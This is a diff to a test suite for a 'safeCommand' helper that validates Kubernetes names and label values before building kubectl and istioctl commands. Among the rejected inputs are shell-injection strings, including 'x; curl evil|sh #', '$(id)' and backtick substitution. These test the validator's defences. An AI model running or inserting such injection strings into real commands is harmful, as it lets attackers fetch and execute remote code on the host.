@@ -11,6 +11,21 @@ describe('safeCommand', () => {
   });
 
   it.each([
+    ['a', 'A'],
+    ['a'.repeat(253), 'a'.repeat(63)],
+    ['a.b-c.d', 'A.b_c-D'],
+    ['0', '0'],
+  ])('holds the name %s and the label value %s', (name, label) => {
+    expect(safeCommand`get ${name} -l rev=${{ label }}`).toEqual({
+      command: `get ${name} -l rev=${label}`,
+    });
+  });
+
+  it.each([
+    'a'.repeat(254),
+    'a_b',
+    '.a',
+    'a.',
     'x; curl evil|sh #',
     '$(id)',
     '`id`',
@@ -32,7 +47,7 @@ describe('safeCommand', () => {
     expect(safeCommand`kubectl delete pod ${name}`).toEqual({});
   });
 
-  it.each(['a;b', '-l', '$x', 'a b', '', 'a'.repeat(64)])(
+  it.each(['a;b', '-l', 'l-', '_l', '$x', 'a b', '', 'a'.repeat(64)])(
     'is none with the label value %p',
     label => {
       expect(safeCommand`istioctl uninstall --revision ${{ label }}`).toEqual(
